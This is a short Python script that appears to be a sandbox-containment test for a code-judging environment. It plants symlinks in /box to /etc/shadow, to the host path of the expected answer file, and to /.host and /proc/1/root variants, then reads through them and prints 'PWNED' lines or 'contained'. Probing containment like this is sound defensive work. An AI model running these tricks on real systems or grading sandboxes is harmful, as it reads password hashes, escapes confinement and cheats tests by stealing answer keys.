# Symlinks inside /box to /etc/shadow and to the host path of the answer (and /.host and
# /proc/1/root variants), then reads through them; also a symlinked directory chain.
import os
import re

answer = re.sub(r"\.in$", ".ans", os.readlink("/proc/self/fd/0"))
targets = ["/etc/shadow", answer, "/.host/etc/shadow", "/.host" + answer,
           "/proc/1/root/etc/shadow", "/proc/1/root" + answer]
found = []
for i, target in enumerate(targets):
    link = f"/box/link{i}"
    try:
        os.symlink(target, link)
        with open(link, errors="replace") as f:
            text = f.read(256)
    except OSError:
        continue
    if "root:" in text or "hx-secret-answer" in text:
        found.append(f"{link} -> {target}")
try:
    os.symlink("/", "/tmp/rootlink")
    os.symlink("/tmp/rootlink/.host/etc", "/box/etclink")
    with open("/box/etclink/shadow") as f:
        if "root:" in f.read(256):
            found.append("/box/etclink/shadow")
except OSError:
    pass
print("\n".join("PWNED-symlink_tricks: " + f for f in found) if found else "contained")
